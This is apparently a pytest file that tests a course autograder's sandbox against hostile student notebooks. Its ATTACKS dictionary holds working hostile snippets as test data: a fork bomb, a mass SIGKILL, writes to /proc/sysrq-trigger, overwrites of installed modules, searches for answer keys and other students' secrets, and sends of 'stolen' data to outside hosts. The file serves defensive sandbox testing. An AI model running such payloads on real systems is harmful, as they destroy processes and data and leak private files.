"""A hostile notebook gets its zero and changes nothing else.

Each one hands in a blank assignment with an attack in its first answer. An attack that works prints
WON, put together so that no traceback shows it, or leaves a trace that the test finds.
"""

import copy
import os
import shutil
import socket
import subprocess
import threading
from pathlib import Path

import nbformat
import psutil
import pytest
from _pytest.capture import FDCapture, MultiCapture

from ctmri_utils.__main__ import main
from ctmri_utils.course.classroom import grading, sandbox
from ctmri_utils.course.classroom.notebook_files import grade_id
from ctmri_utils.machine import CHECKOUT

pytestmark = pytest.mark.timeout(600)
UNITS = "01_units_windows_splits"
SECRET = "the secret of another student"

ATTACKS = {
    "reads_tests": """
        import os, pathlib
        for path in TARGETS:
            try:
                print("W" + "ON" if pathlib.Path(path).read_bytes() else "")
            except OSError as error:
                print(error)
        for folder, _, files in os.walk("/"):
            if folder.startswith(("/usr", "/proc")) or "site-packages" in folder:
                continue
            if any(name.endswith((".ipynb", ".db")) or "answers_0" in name for name in files):
                print("W" + "ON", folder, files)
    """,
    "reads_others": """
        import os, pathlib
        for folder in (HANDED_IN, ROOT, os.path.expanduser("~root"), "/home", "/tmp"):
            for inner, _, files in os.walk(folder):
                for name in files if "/lib/" not in inner else []:
                    try:
                        text = pathlib.Path(inner, name).read_text(errors="replace")
                    except OSError:
                        continue
                    if "the secret of " + "another student" in text:
                        print("W" + "ON", inner, name)
        for process in filter(str.isdigit, os.listdir("/proc")):
            try:
                if "pytest" in pathlib.Path("/proc", process, "cmdline").read_text():
                    print("W" + "ON", process)
            except OSError as error:
                print(error)
    """,
    "forks": """
        import os, time
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)
    """,
    "opens_a_socket": """
        import socket
        for address in (("127.0.0.1", PORT), ("1.1.1.1", 53), ("example.org", 80)):
            try:
                socket.create_connection(address, timeout=2).sendall(b"stolen")
                print("W" + "ON", address)
            except OSError as error:
                print(error)
    """,
    "writes_outside": """
        import os
        for path in (*TARGETS, TRAP, "/etc/trap", "/usr/trap", "/trap", "/dev/trap",
                     "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger"):
            for mode in ("r+", "w"):
                try:
                    with open(path, mode) as file:
                        file.write("stolen")
                    if not path.startswith("/tmp"):
                        print("W" + "ON", path)
                except OSError as error:
                    print(error)
    """,
    "prints_a_gigabyte": """
        import os
        for stream in (1, 2):
            os.write(stream, b"the teacher's terminal is mine")
        for _ in range(1024):
            print("x" * 2**20)
    """,
    "overwrites_modules": """
        import ctmri_utils.course.classroom.mending, nbgrader, numpy, os, shutil
        for module in (ctmri_utils.course.classroom.mending, nbgrader, numpy):
            try:
                os.chmod(module.__file__, 0o777)
            except OSError as error:
                print(error)
            for change in (lambda path: open(path, "a"), os.remove,
                           lambda path: shutil.move(path, path + ".old")):
                try:
                    change(module.__file__)
                    print("W" + "ON", module)
                except OSError as error:
                    print(error)
    """,
    "kills": """
        import os, signal
        for process in range(2, 400_000):
            try:
                os.kill(process, signal.SIGKILL)
            except OSError:
                pass
        os.kill(-1, signal.SIGKILL)
    """,
    "eats_in_many_processes": """
        import os, time
        for _ in range(8):
            if os.fork() == 0:
                memory = bytearray(b"x" * 200_000_000)
                time.sleep(60)
        time.sleep(60)
    """,
    "fills_the_disk": """
        import os, pathlib
        shared = [path for path in pathlib.Path("/tmp").iterdir() if "ctmri-" in path.name][0]
        for number in range(1000):
            pathlib.Path(shared, "shared", f"{number}").write_bytes(b"x" * 10_000_000)
        print("W" + "ON")
    """,
}

# These let the kernel live, so that one notebook makes all of them, each in another answer.
SPIES = {
    "reads_tests": "to_physical",
    "reads_others": "grey",
    "opens_a_socket": "window_error",
    "writes_outside": "mri_to_network",
    "overwrites_modules": "split_by_patient",
}


@pytest.fixture(scope="module")
def server():
    """A port of this machine, and what came in through it."""
    received = []
    listener = socket.create_server(("127.0.0.1", 0))

    def accept():
        while True:
            try:
                received.append(listener.accept())
            except OSError:
                return

    threading.Thread(target=accept, daemon=True).start()
    yield listener.getsockname()[1], received
    listener.close()


@pytest.fixture(scope="module")
def attacked(released, course, hand_in, server, tmp_path_factory):
    """All hostile notebooks and an innocent one, graded in one go."""
    trap = tmp_path_factory.mktemp("trap") / "trap"
    trap.write_text("untouched")
    trap.chmod(0o666)
    source = CHECKOUT / "notebooks" / "assignments" / "source" / UNITS / f"{UNITS}.ipynb"
    targets = [
        source,
        course.root / "gradebook.db",
        course.notebooks[UNITS],
        CHECKOUT / "tests" / "assignments" / "answers_01.toml",
        CHECKOUT / "notebooks" / "assignments" / "nbgrader_config.py",
    ]
    known = {
        "TARGETS": list(map(str, targets)),
        "HANDED_IN": str(trap.parents[1]),
        "ROOT": str(course.root),
        "TRAP": str(trap),
        "PORT": server[0],
    }

    blank = released(UNITS)
    secret = copy.deepcopy(blank)
    secret.cells.append(nbformat.v4.new_markdown_cell(SECRET))
    files = {f"innocent/{UNITS}.ipynb": secret}
    spies = copy.deepcopy(blank)
    for name, attack in ATTACKS.items():
        lines = [f"{key} = {value!r}" for key, value in known.items()]
        lines += [line[8:] for line in attack.splitlines()]
        if name in SPIES:
            spies = with_answer(spies, "\n".join(lines), SPIES[name])
        else:
            files[f"{name}/{UNITS}.ipynb"] = with_answer(blank, "\n".join(lines))
    files[f"spies/{UNITS}.ipynb"] = spies

    limits = sandbox.Limits(memory_gb=1)
    memory = psutil.Process().memory_info().rss
    capture = MultiCapture(in_=None, out=FDCapture(1), err=FDCapture(2))
    capture.start_capturing()
    graded = hand_in(files, cell_seconds=6, limits=limits)
    graded.terminal = "".join(capture.readouterr())
    capture.stop_capturing()
    graded.trap = trap
    graded.grown = psutil.Process().memory_info().rss - memory
    graded.targets = targets
    graded.course = course
    return graded


def with_answer(notebook, text, answer="to_physical"):
    notebook = copy.deepcopy(notebook)
    [cell] = [cell for cell in notebook.cells if grade_id(cell) == answer]
    cell.source = text
    return notebook


def printed(graded, student, answer):
    """The outputs of one cell, as nbgrader keeps them."""
    path = graded.course.root / "autograded" / student / UNITS / f"{UNITS}.ipynb"
    [cell] = [cell for cell in nbformat.read(path, 4).cells if grade_id(cell) == answer]
    return str(cell.outputs)


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_gets_its_zero_and_does_not_win(attacked, name):
    student = "spies" if name in SPIES else name
    output = printed(attacked, student, SPIES.get(name, "to_physical"))
    assert attacked.rows[student, UNITS]["score"] == 0
    assert "WON" not in output
    if name in ("reads_tests", "opens_a_socket", "writes_outside", "overwrites_modules"):
        assert "Errno" in output


def test_nothing_else_was_changed(attacked, server):
    assert [path for path in attacked.targets if b"stolen" in path.read_bytes()] == []
    assert attacked.trap.read_text() == "untouched"
    assert not Path("/etc/trap").exists() and not Path("/usr/trap").exists()
    assert server[1] == []
    assert attacked.rows["innocent", UNITS]["note"] == ""
    assert SECRET in (attacked.output / "feedback" / "innocent" / f"{UNITS}.html").read_text()


def test_no_process_of_an_attack_is_left(attacked):
    """Those of a fork bomb die with its sandbox."""
    left = [process for process in psutil.process_iter(["cmdline"]) if is_ours(process)]
    assert not left


def is_ours(process):
    """Whether this is a process of a sandbox, and no test that runs beside this one started it."""
    in_sandbox = "ctmri-" in " ".join(process.info["cmdline"] or [])
    if not in_sandbox or process.status() == "zombie":
        return False
    workers = {child.pid for child in psutil.Process(os.getppid()).children()} - {os.getpid()}
    return not workers & {parent.pid for parent in process.parents()}


def test_the_grader_keeps_little_of_a_gigabyte(attacked):
    assert "terminal is mine" not in attacked.terminal
    assert attacked.grown < 700e6
    page = attacked.output / "feedback" / "prints_a_gigabyte" / f"{UNITS}.html"
    # The 20 MB of output that are kept, or less if the sandbox is stopped before.
    assert page.stat().st_size < 22e6
    assert "cell to_physical" in attacked.rows["prints_a_gigabyte", UNITS]["note"]


def test_the_teacher_reads_why_a_notebook_was_stopped(attacked):
    assert "of memory" in attacked.rows["eats_in_many_processes", UNITS]["note"]
    assert "filled the folder" in attacked.rows["fills_the_disk", UNITS]["note"]


def test_every_tool_that_is_installed_confines():
    tools = [tool for tool in ("bwrap", "unshare") if shutil.which(tool)]
    assert tools
    assert [sandbox.reason_it_fails(tool) for tool in tools] == [None] * len(tools)


@pytest.mark.parametrize("tool", [tool for tool in ("bwrap", "unshare") if shutil.which(tool)])
def test_nothing_of_the_teacher_is_visible(tool, tmp_path, monkeypatch):
    monkeypatch.setenv("KAGGLE_KEY", SECRET)
    command = sandbox.sandboxed(
        tool, ["/bin/sh", "-c", "env; ls -A $HOME /home /root"], tmp_path, sandbox.Limits()
    )
    run = subprocess.run(command, env=sandbox.environment(), capture_output=True, text=True)
    assert SECRET not in run.stdout
    assert ".ssh" not in run.stdout and ".bash" not in run.stdout


@pytest.fixture
def no_sandbox(monkeypatch):
    sandbox.working_sandbox.cache_clear()
    monkeypatch.setattr(sandbox, "reason_it_fails", lambda tool: "is not installed")
    yield
    sandbox.working_sandbox.cache_clear()


def test_without_a_sandbox_nothing_is_executed(no_sandbox, released, tmp_path, capsys):
    trap = tmp_path / "trap"
    blank = with_answer(released(UNITS), f"open({str(trap)!r}, 'w')")
    (tmp_path / "anna").mkdir()
    nbformat.write(blank, tmp_path / "anna" / f"{UNITS}.ipynb")

    assert main(["grade", str(tmp_path)]) == 1
    message = capsys.readouterr().err
    assert "bwrap is not installed; unshare is not installed" in message
    assert "--unsafe" in message and message.count("\n") == 1
    assert not trap.exists()


def test_nbgrader_itself_refuses_too(no_sandbox, released, hand_in, monkeypatch):
    """Its own command and its form read the same settings."""
    monkeypatch.setattr(grading, "working_sandbox", lambda: "as if it were there")
    graded = hand_in({f"anna/{UNITS}.ipynb": released(UNITS)})
    assert graded.rows["anna", UNITS]["score"] == ""
    assert "NoSandboxError" in graded.rows["anna", UNITS]["note"]


def test_unsafe_grades_without_a_sandbox(no_sandbox, solved, hand_in):
    graded = hand_in({f"anna/{UNITS}.ipynb": solved}, unsafe=True)
    assert graded.rows["anna", UNITS]["score"] == 22
    assert "CTMRI_UNSAFE_GRADING" not in os.environ
